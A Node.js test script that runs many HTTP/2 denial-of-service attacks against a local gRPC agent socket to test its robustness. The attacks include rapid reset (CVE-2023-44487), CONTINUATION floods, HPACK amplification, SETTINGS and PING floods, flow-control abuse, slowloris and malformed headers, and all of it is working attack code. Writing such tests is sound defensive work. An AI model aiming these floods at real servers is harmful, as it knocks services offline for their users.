/**
 * HTTP/2 attacks on the agent's socket, as a local user (tests run it under uid 65534) would
 * make them: each connection first behaves like a real gRPC client (preface, SETTINGS, the ACK
 * of the server's SETTINGS, a real FetchX509SVID answered by the agent), then attacks.
 * `--conns` connections attack at once, each reconnecting whenever the agent closes it, until
 * `--seconds` have passed (and `--min` units of the attack were sent, for the counted ones).
 * Plain Node and no project code. Prints one JSON line of totals.
 *
 *   h2-attacker.mjs <socket> <attack> [--conns N] [--seconds S] [--route direct|filtered] [--min N]
 *
 * --route filtered sends the socket path as :authority (as grpc-java does), so the connection
 * goes through the agent's :authority filter instead of straight to its HTTP/2 server.
 */
import { H2Conn, T, FLAG, EMPTY_GRPC_MESSAGE, FETCH_X509, frame, grpcRequestBlock, hpackInt, literal } from './h2-client.mjs';

const [path, attack, ...rest] = process.argv.slice(2);
const opt = (name, dflt) => {
  const i = rest.indexOf(`--${name}`);
  return i >= 0 ? rest[i + 1] : dflt;
};
const CONNS = Number(opt('conns', 4));
const SECONDS = Number(opt('seconds', 10));
const ROUTE = opt('route', 'direct');
const MIN = Number(opt('min', 0));
/** bad-path: only this one of MALFORMED (for narrowing down a failure). */
const ONLY = Number(opt('only', -1));
const NO_RST = rest.includes('--no-rst');
const AUTHORITY = ROUTE === 'filtered' ? path : 'localhost';
const t0 = Date.now();
const end = t0 + SECONDS * 1000;

const totals = { attack, route: ROUTE, conns: CONNS, connections: 0, connectErrors: {}, handshakes: 0, served: 0, units: 0, bytes: 0, goaways: {}, closedByAgent: 0, stalls: 0 };
const count = (o, k) => (o[k] = (o[k] ?? 0) + 1);
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
const more = () => Date.now() < end || totals.units < MIN;

/** A connection that has done what a real client does first; undefined if the agent refused it. */
async function realClient({ settings, serve = true } = {}) {
  const c = await new H2Conn(path).connect();
  totals.connections++;
  if (c.error) {
    count(totals.connectErrors, c.error);
    await sleep(20);
    return undefined;
  }
  if (!(await c.handshake(settings))) return finish(c), undefined;
  totals.handshakes++;
  if (serve) {
    if (await c.fetchX509(1, { authority: AUTHORITY })) totals.served++;
  }
  return c;
}

function finish(c) {
  totals.bytes += c.sent;
  if (c.goaway) count(totals.goaways, c.goaway.code);
  if (c.closed) totals.closedByAgent++;
  c.destroy();
}

/**
 * Sends batches from `next()` until the agent closes the connection, stops reading, or time is
 * up; a batch counts once it is handed to the socket. When time is up the connection is left
 * open a little longer, so an agent that is behind (other connections flood it too) can still be
 * seen closing it.
 */
async function flood(c, next, perBatch) {
  while (!c.closed && more()) {
    totals.units += perBatch;
    if (!(await c.write(next()))) {
      if (!c.closed) totals.stalls++;
      break;
    }
  }
  if (!c.closed) await c.until(() => c.closed, 3000);
}

const rst = (id, code = 8) => frame(T.RST_STREAM, 0, id, Buffer.from([0, 0, 0, code]));

/** Rapid reset (CVE-2023-44487): new streams reset at once, 100 per write. */
function rapidReset(blockFor, withBody) {
  return async () => {
    const c = await realClient();
    if (!c) return;
    let id = 3;
    await flood(
      c,
      () => {
        const parts = [];
        for (let i = 0; i < 100; i++, id += 2) {
          parts.push(frame(T.HEADERS, FLAG.END_HEADERS | (withBody ? 0 : 0), id, blockFor(id)));
          if (withBody) parts.push(frame(T.DATA, FLAG.END_STREAM, id, EMPTY_GRPC_MESSAGE));
          parts.push(rst(id));
        }
        return Buffer.concat(parts);
      },
      100,
    );
    finish(c);
  };
}

const request = grpcRequestBlock({ authority: AUTHORITY });
const unknownPath = grpcRequestBlock({ authority: AUTHORITY, path: '/SpiffeWorkloadAPI/NoSuchMethod' });
const noContentType = Buffer.concat([literal(':method', 'POST'), literal(':scheme', 'http'), literal(':path', FETCH_X509), literal(':authority', AUTHORITY)]);

/** A frame announcing 16 MiB - 1 octets, far over the advertised 16,384; then `after`. */
function bigFrame(after) {
  return async () => {
    const c = await realClient();
    if (!c) return;
    await c.write(Buffer.from([0xff, 0xff, 0xff, T.DATA, 0, 0, 0, 0, 1]));
    totals.units++;
    if (after === 'close') return finish(c);
    if (after === 'hold') {
      // Never reads and never closes until the attack ends: the agent must close it.
      c.stopReading();
      await c.until(() => false, Math.max(0, end - Date.now()));
      return finish(c);
    }
    // 'stream': keeps sending the body while the agent lets it.
    await flood(c, () => Buffer.alloc(64 * 1024, 0x61), 0);
    finish(c);
  };
}

/** HEADERS without END_HEADERS, then CONTINUATION frames that never end (full or empty). */
function continuation(empty) {
  return async () => {
    const c = await realClient();
    if (!c) return;
    await c.write(frame(T.HEADERS, 0, 3, request));
    const junk = frame(T.CONTINUATION, 0, 3, empty ? Buffer.alloc(0) : Buffer.alloc(16_384, 0x40));
    const batch = Buffer.concat(Array(empty ? 1000 : 16).fill(junk));
    await flood(c, () => batch, empty ? 1000 : 16);
    finish(c);
  };
}

/** Header-list bombs within the frame limits. */
function headerBomb(kind) {
  return async () => {
    const c = await realClient();
    if (!c) return;
    let id = 3;
    await flood(
      c,
      () => {
        let block;
        if (kind === 'many') {
          // Thousands of small fields.
          block = Buffer.concat([request, ...Array.from({ length: 2000 }, (_, i) => literal(`x-${i}`, 'v'))]);
        } else if (kind === 'big') {
          // A few huge values.
          block = Buffer.concat([request, literal('x-big', Buffer.alloc(60_000, 0x61)), literal('x-big2', Buffer.alloc(60_000, 0x62))]);
        } else {
          // HPACK amplification: one 4,000-octet field put in the dynamic table (literal with
          // incremental indexing, RFC 7541 §6.2.1), then referenced by index (1 octet) thousands of times.
          const name = Buffer.from('x-amp');
          const value = Buffer.alloc(4000, 0x61);
          const insert = Buffer.concat([Buffer.from([0x40]), hpackInt(name.length, 7), name, hpackInt(value.length, 7), value]);
          block = Buffer.concat([request, insert, Buffer.alloc(10_000, 0x80 | 62)]);
        }
        const frames = [];
        for (let off = 0; off < block.length; off += 16_384) {
          const endOff = Math.min(block.length, off + 16_384);
          frames.push(frame(off === 0 ? T.HEADERS : T.CONTINUATION, endOff === block.length ? FLAG.END_HEADERS : 0, id, block.subarray(off, endOff)));
        }
        id += 2;
        return Buffer.concat(frames);
      },
      1,
    );
    finish(c);
  };
}

/** SETTINGS (each needs an ACK) or PING frames as fast as the socket takes them, never reading the ACKs. */
function controlFlood(type) {
  return async () => {
    const c = await realClient();
    if (!c) return;
    c.stopReading();
    const one = type === T.SETTINGS ? frame(T.SETTINGS, 0, 0, Buffer.from([0, 3, 0, 0, 0, 100])) : frame(T.PING, 0, 0, Buffer.alloc(8, 7));
    const batch = Buffer.concat(Array(1000).fill(one));
    await flood(c, () => batch, 1000);
    finish(c);
  };
}

/** Flow-control abuse. */
function windowAbuse(kind) {
  return async () => {
    if (kind === 'zero-window') {
      // INITIAL_WINDOW_SIZE 0: the agent may send no DATA; then as many requests as it allows, never opening the window.
      const c = await realClient({ settings: Buffer.from([0, 4, 0, 0, 0, 0]), serve: false });
      if (!c) return;
      let id = 1;
      await flood(
        c,
        () => {
          const parts = [];
          for (let i = 0; i < 100; i++, id += 2) parts.push(frame(T.HEADERS, FLAG.END_HEADERS, id, request), frame(T.DATA, FLAG.END_STREAM, id, EMPTY_GRPC_MESSAGE));
          return Buffer.concat(parts);
        },
        100,
      );
      await c.until(() => false, Math.max(0, Math.min(2000, end - Date.now())));
      return finish(c);
    }
    const c = await realClient();
    if (!c) return;
    if (kind === 'overflow') {
      // Increments that push the connection and a stream window past 2^31 - 1 (FLOW_CONTROL_ERROR).
      const inc = Buffer.alloc(4);
      inc.writeUInt32BE(0x7fffffff);
      await c.write(Buffer.concat([frame(T.WINDOW_UPDATE, 0, 1, inc), frame(T.WINDOW_UPDATE, 0, 0, inc), frame(T.WINDOW_UPDATE, 0, 0, inc)]));
      totals.units++;
      await c.until(() => false, 500);
    } else if (kind === 'zero-increment') {
      await c.write(frame(T.WINDOW_UPDATE, 0, 0, Buffer.alloc(4)));
      totals.units++;
      await c.until(() => false, 500);
    } else {
      // 'tiny': window updates of 1 octet as fast as possible.
      const one = Buffer.from([0, 0, 0, 1]);
      const batch = Buffer.concat(Array.from({ length: 1000 }, (_, i) => frame(T.WINDOW_UPDATE, 0, i % 2 ? 0 : 1, one)));
      await flood(c, () => batch, 1000);
    }
    finish(c);
  };
}

/** Slowloris: as many connections as the agent takes, each sending a byte now and then. */
async function slowloris() {
  const held = [];
  const prefix = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1'), frame(T.SETTINGS, 0, 0), frame(T.HEADERS, FLAG.END_HEADERS, 1, request)]);
  while (more()) {
    const c = await new (await import('./h2-client.mjs')).H2Conn(path).connect();
    totals.connections++;
    if (c.error) {
      count(totals.connectErrors, c.error);
      await sleep(50);
      continue;
    }
    c.at = 0;
    held.push(c);
    if (held.length >= CONNS * 50) break;
  }
  while (more()) {
    for (const c of held) {
      if (!c.closed && c.at < prefix.length) {
        c.write(prefix.subarray(c.at, c.at + 1));
        c.at++;
        totals.units++;
      }
    }
    await sleep(500);
  }
  for (const c of held) finish(c);
}

/** Half-closed: a real request, then the client shuts its sending side, keeps reading a while, and goes. */
async function halfClosed() {
  const c = await realClient();
  if (!c) return;
  c.socket.end();
  totals.units++;
  await c.until(() => false, 300);
  finish(c);
}

/** Abandoned: many open streams, then the client neither reads nor writes nor closes until the attack ends. */
async function abandoned() {
  const c = await realClient();
  if (!c) return;
  c.stopReading();
  const parts = [];
  for (let id = 3; id < 3 + 2 * 200; id += 2) parts.push(frame(T.HEADERS, FLAG.END_HEADERS, id, request), frame(T.DATA, FLAG.END_STREAM, id, EMPTY_GRPC_MESSAGE));
  await c.write(Buffer.concat(parts));
  totals.units += 200;
  await c.until(() => false, Math.max(0, end - Date.now()));
  finish(c);
}

/** Requests with unknown or malformed :path and other malformed request headers, reset or not. */
const MALFORMED = [
  [literal(':method', 'POST'), literal(':scheme', 'http'), literal(':path', '/Nope/Nope')],
  [literal(':method', 'POST'), literal(':scheme', 'http'), literal(':path', '')],
  [literal(':method', 'POST'), literal(':scheme', 'http'), literal(':path', 'no-slash')],
  [literal(':method', 'POST'), literal(':scheme', 'http'), literal(':path', `/${'a'.repeat(8000)}`)],
  [literal(':method', 'POST'), literal(':scheme', 'http'), literal(':path', '/SpiffeWorkloadAPI/FetchX509SVID\u0000x')],
  [literal(':method', 'POST'), literal(':scheme', 'http')],
  [literal(':method', 'GET'), literal(':scheme', 'http'), literal(':path', FETCH_X509)],
  [literal(':method', 'POST'), literal(':scheme', 'http'), literal(':path', FETCH_X509), literal(':path', '/x')],
  [literal(':method', 'POST'), literal('content-type', 'application/grpc'), literal(':scheme', 'http'), literal(':path', FETCH_X509)],
  [literal(':method', 'POST'), literal(':scheme', 'http'), literal(':path', FETCH_X509), literal('Upper-Case', 'x')],
  [literal(':method', 'POST'), literal(':scheme', 'http'), literal(':path', FETCH_X509), literal('connection', 'keep-alive')],
  [literal(':method', 'CONNECT'), literal(':authority', 'localhost')],
];
async function badPath() {
  const c = await realClient();
  if (!c) return;
  let id = 3;
  let n = 0;
  await flood(
    c,
    () => {
      const parts = [];
      for (let i = 0; i < 50; i++, id += 2, n++) {
        const fields = ONLY >= 0 ? MALFORMED[ONLY] : MALFORMED[n % MALFORMED.length];
        const block = Buffer.concat([...fields, literal(':authority', AUTHORITY), literal('content-type', 'application/grpc'), literal('te', 'trailers')]);
        parts.push(frame(T.HEADERS, FLAG.END_HEADERS | FLAG.END_STREAM, id, block));
        if (n % 3 === 0 && !NO_RST) parts.push(rst(id));
      }
      return Buffer.concat(parts);
    },
    50,
  );
  finish(c);
}

const ATTACKS = {
  'rapid-reset': rapidReset(() => request, false),
  'rapid-reset-full': rapidReset(() => request, true),
  'rapid-reset-unknown-path': rapidReset(() => unknownPath, false),
  'rapid-reset-no-content-type': rapidReset(() => noContentType, false),
  'big-frame-close': bigFrame('close'),
  'big-frame-hold': bigFrame('hold'),
  'big-frame-stream': bigFrame('stream'),
  continuation: continuation(false),
  'continuation-empty': continuation(true),
  'header-many': headerBomb('many'),
  'header-big': headerBomb('big'),
  'header-hpack-amp': headerBomb('amp'),
  'settings-flood': controlFlood(T.SETTINGS),
  'ping-flood': controlFlood(T.PING),
  'window-overflow': windowAbuse('overflow'),
  'window-zero-increment': windowAbuse('zero-increment'),
  'window-tiny': windowAbuse('tiny'),
  'zero-window': windowAbuse('zero-window'),
  'half-closed': halfClosed,
  abandoned,
  'bad-path': badPath,
};

if (attack === 'slowloris') {
  await slowloris();
} else {
  const one = ATTACKS[attack];
  if (!one) {
    console.error(`h2-attacker: unknown attack ${attack}; one of slowloris, ${Object.keys(ATTACKS).join(', ')}`);
    process.exit(2);
  }
  await Promise.all(
    Array.from({ length: CONNS }, async () => {
      while (more()) await one();
    }),
  );
}
totals.ms = Date.now() - t0;
console.log(JSON.stringify(totals));
process.exit(0);
